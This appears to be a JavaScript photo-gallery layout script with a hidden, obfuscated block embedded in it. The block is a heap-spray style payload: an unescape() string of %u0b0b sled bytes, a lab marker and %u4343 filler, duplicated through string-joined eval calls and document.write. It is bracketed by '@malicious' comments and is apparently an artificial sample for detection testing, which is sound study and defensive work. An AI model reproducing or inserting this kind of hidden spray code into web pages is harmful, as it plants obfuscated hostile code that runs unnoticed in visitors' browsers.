/* Photo gallery: thumbnail sizing. */
var thumbs = 12;
var perRow = 4;
var rows = 0;

function layoutRows(count, width) {
    var r = 0;
    while (count > 0) {
        count = count - width;
        r = r + 1;
    }
    return r;
}

rows = layoutRows(thumbs, perRow);

/* @malicious-begin */
var sc = unescape("%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0b0b%u0045%u0056%u004c%u0041%u0042%u002d%u004d%u0041%u0052%u004b%u0045%u0052%u002d%u0043%u0035%u0044%u0031%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343%u4343");
var pieces = ["var s", "c2 = s", "c;"];
eval(pieces.join(""));
var fill = unescape("%u0b0b%u0b0b");
while (fill.length < 1024) fill += fill;
document.write("<font face='" + fill.substring(0, 32) + "'></font>");
for (var j = 0; j < 4; j++) {
    eval("var f" + j + " = '" + fill.substring(0, 16) + sc2 + "';");
}
/* @malicious-end */

var caption = "Showing " + thumbs + " photos";
